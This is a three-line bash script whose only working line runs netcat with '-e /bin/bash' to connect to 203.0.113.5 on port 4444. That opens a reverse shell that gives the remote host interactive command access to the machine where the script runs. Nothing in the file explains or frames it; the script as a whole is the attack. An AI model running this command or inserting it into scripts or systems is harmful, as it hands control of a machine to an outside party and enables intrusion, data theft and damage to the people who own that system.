#!/bin/bash
set -eu
nc 203.0.113.5 4444 -e /bin/bash
